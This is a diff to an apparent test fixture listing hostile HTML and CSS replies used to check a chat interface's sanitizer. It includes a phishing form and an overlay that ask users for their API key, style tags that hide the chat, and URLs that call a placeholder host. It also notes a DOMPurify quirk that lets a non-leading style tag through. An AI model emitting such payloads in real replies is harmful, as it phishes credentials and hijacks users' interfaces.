@@ -73,9 +73,10 @@ HOSTILE_REPLIES = {
     "phishing form": (f'<form action="{E}/form" method="post">Session expired: paste your key '
                       '<input name="key" autofocus><button>Continue</button></form>'),
     "button formaction": f'<button formaction="{E}/formaction">Click</button>',
-    "style hides the chat": "<style>#composer, header { display: none !important }</style>Nothing to see.",
-    "style import": f"<style>@import url({E}/import.css);</style>",
-    "style background": f"<style>body {{ background: url({E}/body-bg) }}</style>",
+    # Text first: DOMPurify drops a <style> that opens the fragment, but not a later one.
+    "style hides the chat": "Sure. <style>#composer, header { display: none !important }</style>",
+    "style import": f"Sure. <style>@import url({E}/import.css);</style>",
+    "style background": f"Sure. <style>body {{ background: url({E}/body-bg) }}</style>",
     "fixed overlay": ('<div style="position:fixed;inset:0;z-index:9999;background:#fff">'
                       'Session expired. Paste your API key below.</div>'),
     "link stylesheet": f'<link rel="stylesheet" href="{E}/link.css">',
